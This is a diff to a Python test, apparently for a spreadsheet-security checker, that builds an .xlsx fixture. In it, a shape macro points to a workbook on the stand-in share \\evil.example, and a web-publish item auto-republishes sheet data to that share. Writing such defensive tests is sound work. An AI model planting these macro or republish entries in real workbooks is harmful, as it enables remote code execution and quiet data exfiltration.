@@ -450,9 +450,13 @@ def test_add_ins_shape_macros_and_republishing_go(tmp_path):
         b'spreadsheetDrawing"><xdr:sp macro="\'\\\\evil.example\\share\\tool.xlsm\'!Run"/>'
         b"</xdr:wsDr>"
     )
+    members["xl/worksheets/_rels/sheet1.xml.rels"] = _rels(
+        ("rId1", "drawing", "../drawings/drawing1.xml")
+    )
     sheet = members["xl/worksheets/sheet1.xml"].decode()
     members["xl/worksheets/sheet1.xml"] = sheet.replace(
         "</worksheet>",
+        f'<drawing r:id="rId1" xmlns:r="{R}"/>'
         '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" '
         'destinationFile="\\\\evil.example\\share\\x.htm" autoRepublish="1"/>'
         "</webPublishItems></worksheet>",
